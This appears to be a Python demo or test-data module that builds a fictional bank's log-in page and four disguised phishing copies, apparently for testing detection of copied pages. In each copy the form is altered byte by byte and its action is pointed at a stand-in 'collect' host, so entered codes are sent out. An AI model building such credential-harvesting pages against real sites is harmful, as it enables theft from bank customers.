"""A bank, and pages elsewhere that pretend to be its log-in page."""

import re
from dataclasses import dataclass
from pathlib import Path

from hpcreuse.demo.pages import Capture, page
from hpcreuse.demo.words import Prose

BANK, DOMAIN = "http://www.harbour-bank.example/", "harbour-bank.example/"
PHISHERS = ("secure-harbour.example/", "account-check.example/", "bank-support.example/", "verify-now.example/")

LOGIN = (
    '<div class="notice"><b>Harbour Bank</b> never asks for your code by mail or telephone.</div>\n'
    '<div class="login"><form action="/login" method="post">\n<p>Customer number <input name="customer"></p>\n'
    '<p>Secret code of six digits <input type="password" name="code"></p>\n'
    "<p><button>Log in to your accounts</button></p>\n</form></div>\n"
)


@dataclass(frozen=True)
class Phish:
    """A bank's own pages and those that copy its log-in page."""

    captures: list[Capture]
    originals: dict[str, bytes]
    """The bank's pages by name, to be labelled."""
    phish: set[str]

    @property
    def sites(self) -> tuple[str, ...]:
        """The hosts of all of it."""
        return ("www." + DOMAIN, *PHISHERS)

    def save_originals(self, folder: Path) -> None:
        """Write the bank's pages to a folder."""
        folder.mkdir(parents=True)
        for name, payload in self.originals.items():
            (folder / name).write_bytes(payload)


def plant_phish(prose: Prose) -> Phish:
    """Make a bank, and copies of its log-in page."""
    about = "".join(f"<p>{prose.paragraph('press')}</p>\n" for _ in range(5))
    originals = {
        "login.html": page("Log in", "Harbour Bank", "", LOGIN, ""),
        "about.html": page("About us", "Harbour Bank", "", about, ""),
    }
    own = [Capture(BANK + name, payload) for name, payload in originals.items()]
    copies = [
        Capture(f"http://{root}harbour/login.html", disguised(number, prose)) for number, root in enumerate(PHISHERS, 1)
    ]
    return Phish([*own, *copies], originals, {copy.url for copy in copies})


def disguised(number: int, prose: Prose) -> bytes:
    """Write the log-in page in other bytes that a browser shows alike: case, lines, quotes; and send the code away."""
    tags = re.sub(r"<(/?\w+)", lambda tag: f"<{tag[1].upper()}", LOGIN)
    lines = "\r\n" * number
    spaced = tags.replace(">\n<", f">{lines}<").replace('"', "'")
    stolen = spaced.replace("/login", f"http://collect-{number}.example/")
    return page("Log in", f"Harbour Bank {number}", "", stolen, f"<p>{prose.paragraph('spam', 2, 2)}</p>\n")
